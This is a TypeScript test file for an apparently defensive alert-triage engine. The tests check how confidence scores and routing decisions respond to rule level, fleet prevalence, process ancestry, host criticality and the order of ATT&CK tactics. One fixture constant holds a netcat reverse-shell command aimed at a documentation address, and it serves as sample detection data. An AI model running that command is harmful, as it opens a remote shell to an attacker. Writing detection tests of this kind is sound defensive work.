import { describe, expect, it } from 'vitest'
import { Value } from 'typebox/value'
import type { AgentId, EventId } from '@firebreak/shared/ids.ts'
import { type AlertEvidence, alertParts } from './alert-parts.ts'
import { confidenceOf } from './confidence.ts'
import { type IncidentMember, incidentParts } from './incident-parts.ts'
import { type Findings, type Prevalence, RULE_STATUSES, type Severity, SEVERITIES, type Signal } from './index.ts'
import { prevalenceKey } from './prevalence.ts'
import { routeOf } from './route.ts'
import { TriageConfig } from './triage-config.ts'

const config = Value.Default(TriageConfig, {}) as TriageConfig
const COMMAND = 'nc -e /bin/sh 203.0.113.9 4444'

function signal(level: Severity, status: Signal['ruleStatus'], process: object = {}): Signal {
  return {
    agentId: 'a' as AgentId,
    detector: 'sigma',
    ruleId: `${level}-${status}`,
    ruleTitle: 'A rule',
    ruleSha256: '',
    level,
    ruleStatus: status,
    techniques: [],
    tactics: [],
    eventId: 'e' as EventId,
    eventTime: '2026-01-01T00:00:00.000Z',
    event: { process: { command_line: COMMAND, ...process } },
  }
}
const nothingKnown: Findings = { prevalence: new Map(), fleet: 100 }
const seenOn = (prevalence: Prevalence, fleet = 100): Findings => ({
  prevalence: new Map([[prevalenceKey({ field: 'process.command_line', value: COMMAND }), prevalence]]),
  fleet,
})
const known = (hosts: number): Prevalence => ({ known: true, field: 'process.command_line', events: hosts, hosts })

function judge(signal: Signal, findings = nothingKnown, criticality: AlertEvidence['criticality'] = 'normal') {
  const parts = alertParts({ signal, findings, criticality })
  const confidence = confidenceOf(parts)
  return { parts, confidence, route: routeOf(confidence, signal.level, config).route }
}

describe('the confidence of an alert', () => {
  it('is the logistic of the sum of the parts that it shows', () => {
    const { parts, confidence } = judge(signal('high', 'stable'))
    const sum = parts.reduce((total, part) => total + part.logOdds, 0)
    expect(confidence).toBeCloseTo(100 / (1 + Math.exp(-sum)), 1)
    expect(parts.every((part) => part.why.length > 0)).toBe(true)
  })

  it.each([
    ['high', 'stable'],
    ['critical', 'stable'],
    ['critical', 'test'],
  ] as const)(
    'lets one rule of level %s and status %s act, also on an unimportant host at a terminal',
    (level, status) => {
      expect(judge(signal(level, status), seenOn({ known: false, why: 'no answer' }), 'low').route).toBe('act')
      expect(judge(signal(level, status, { tty: '/dev/pts/0' }), nothingKnown, 'low').route).toBe('act')
    },
  )

  it('never lets one rule of level medium or below act, whatever else speaks for it', () => {
    for (const level of ['informational', 'low', 'medium'] as const) {
      for (const status of RULE_STATUSES) {
        const judged = judge(signal(level, status, { parent: { name: 'nginx' } }), seenOn(known(0)), 'critical')
        expect(judged.route, `${level} ${status}`).not.toBe('act')
      }
    }
  })

  it('asks about a stable medium rule and a high one under test, and only keeps a low one', () => {
    expect(judge(signal('medium', 'stable')).route).toBe('ask')
    expect(judge(signal('high', 'test')).route).toBe('ask')
    expect(judge(signal('low', 'stable')).route).toBe('log')
  })

  it('asks first when half of the fleet did the same before, and raises it a little for what nobody did', () => {
    const usual = judge(signal('high', 'stable'), seenOn(known(60)))
    expect(usual.route).toBe('ask')
    const never = judge(signal('high', 'stable'), seenOn(known(0)))
    expect(never.confidence).toBeGreaterThan(judge(signal('high', 'stable')).confidence)
  })

  it('says that it does not know how common something is instead of guessing', () => {
    const why = (findings: Findings) =>
      judge(signal('high', 'stable'), findings).parts.find((p) => p.name === 'prevalence')
    expect(why(nothingKnown)).toMatchObject({ logOdds: 0, why: expect.stringContaining('was not looked up') })
    expect(why(seenOn({ known: false, why: 'no answer within 200 ms' }))).toMatchObject({
      logOdds: 0,
      why: expect.stringContaining('no answer within 200 ms'),
    })
    expect(why(seenOn(known(2), 2))).toMatchObject({ logOdds: 0, why: expect.stringContaining('too few') })
  })

  it('is higher for what a network daemon starts and lower for what runs at a terminal', () => {
    const plain = judge(signal('high', 'test')).confidence
    expect(judge(signal('high', 'test', { parent: { name: 'php-fpm8.2' } })).confidence).toBeGreaterThan(plain)
    expect(judge(signal('high', 'test', { tty: '/dev/pts/3' })).confidence).toBeLessThan(plain)
  })

  it('takes a runtime for a network daemon where it is a service, not where it runs a developer’s tools', () => {
    const plain = judge(signal('high', 'test')).confidence
    const under = (...ancestors: string[]) =>
      judge(signal('high', 'test', { parent: { name: 'node' }, ancestors: ancestors.map((name) => ({ name })) }))
        .confidence
    expect(under('systemd')).toBeGreaterThan(plain)
    expect(under('node', 'containerd-shim-runc-v2')).toBeGreaterThan(plain)
    expect(under('bash', 'sshd', 'systemd')).toBe(plain)
    expect(under('npm', 'sh', 'systemd')).toBe(plain)
    expect(judge(signal('high', 'test', { parent: { name: 'node' }, tty: '/dev/pts/3' })).confidence).toBeLessThan(
      plain,
    )
  })

  it('grows with the level and with the host’s criticality', () => {
    const byLevel = SEVERITIES.map((level) => judge(signal(level, 'stable')).confidence)
    expect(byLevel).toEqual(byLevel.toSorted((a, b) => a - b))
    const byHost = (['low', 'normal', 'high', 'critical'] as const).map(
      (criticality) => judge(signal('high', 'test'), nothingKnown, criticality).confidence,
    )
    expect(byHost).toEqual(byHost.toSorted((a, b) => a - b))
  })
})

function member(rule: string, more: Partial<IncidentMember> = {}): IncidentMember {
  const severity = more.severity ?? 'high'
  return {
    agentId: 'a',
    dedupKey: JSON.stringify([more.agentId ?? 'a', rule, '/bin/sh']),
    title: rule,
    severity,
    parts: alertParts({ signal: signal(severity, 'test'), findings: nothingKnown, criticality: 'normal' }),
    tactics: [],
    entities: { processes: ['p1'], users: [], hashes: [], addresses: [], files: [] },
    firstSeen: '2026-01-01T00:00:00.000Z',
    ...more,
  }
}
const elsewhere = { entities: { processes: ['p9'], users: [], hashes: [], addresses: [], files: [] } }
const sure = (members: readonly IncidentMember[]) => confidenceOf(incidentParts(members))

it('lets nothing act whose severity is not high, however sure it is', () => {
  expect(routeOf(99.9, 'medium', config)).toMatchObject({
    route: 'ask',
    why: expect.stringContaining('severity medium'),
  })
  expect(routeOf(99.9, 'high', config).route).toBe('act')
})

describe('the confidence of an incident', () => {
  it('is that of its strongest alert when there is nothing else', () => {
    expect(sure([member('r1')])).toBe(judge(signal('high', 'test')).confidence)
  })

  it('lets two strong rules under test act together when they see one line of processes, and not when they do not', () => {
    expect(routeOf(sure([member('r1'), member('r2')]), 'high', config).route).toBe('act')
    expect(routeOf(sure([member('r1'), member('r2', elsewhere)]), 'high', config).route).toBe('ask')
  })

  it('does not take one rule seen twice for two', () => {
    expect(sure([member('r1'), member('r1')])).toBe(sure([member('r1')]))
  })

  it('counts further rules less and less', () => {
    const grown = [1, 2, 3, 4, 5, 6].map((n) =>
      incidentParts(Array.from({ length: n }, (_, i) => member(`r${i}`))).reduce((sum, part) => sum + part.logOdds, 0),
    )
    const steps = grown.slice(1).map((value, index) => value - (grown[index] ?? 0))
    for (let i = 1; i < steps.length; i++) expect(steps[i]).toBeLessThanOrEqual((steps[i - 1] ?? 0) + 1e-9)
  })

  it('rises when tactics follow in the order of ATT&CK, and not when they go backwards', () => {
    const at = (minute: number) => ({ firstSeen: `2026-01-01T00:0${minute}:00.000Z` })
    const forward = [
      member('r1', { ...at(0), tactics: ['execution'] }),
      member('r2', { ...elsewhere, ...at(1), tactics: ['credential-access'] }),
      member('r3', { ...elsewhere, ...at(2), tactics: ['exfiltration'] }),
    ]
    const backward = forward.map((one, index) => ({ ...one, ...at(2 - index) }))
    expect(sure(forward)).toBeGreaterThan(sure(backward))
    expect(incidentParts(forward).find((part) => part.name === 'tactics in order')?.why).toContain(
      'execution, credential-access, exfiltration',
    )
  })

  it('does not take the three tactics of one rule for three stages', () => {
    const tagged = member('r1', { tactics: ['execution', 'command-and-control', 'exfiltration'] })
    expect(incidentParts([tagged]).some((part) => part.name === 'tactics in order')).toBe(false)
  })

  it('rises when several hosts share an address', () => {
    const shared = { processes: [], users: [], hashes: [], addresses: ['203.0.113.9'], files: [] }
    const alone = { ...shared, addresses: [] }
    const other = { agentId: 'b', dedupKey: JSON.stringify(['b', 'r1', '-']) }
    const tied = sure([member('r1', { entities: shared }), member('r1', { ...other, entities: shared })])
    expect(tied).toBeGreaterThan(
      sure([member('r1', { entities: shared }), member('r1', { ...other, entities: alone })]),
    )
  })
})
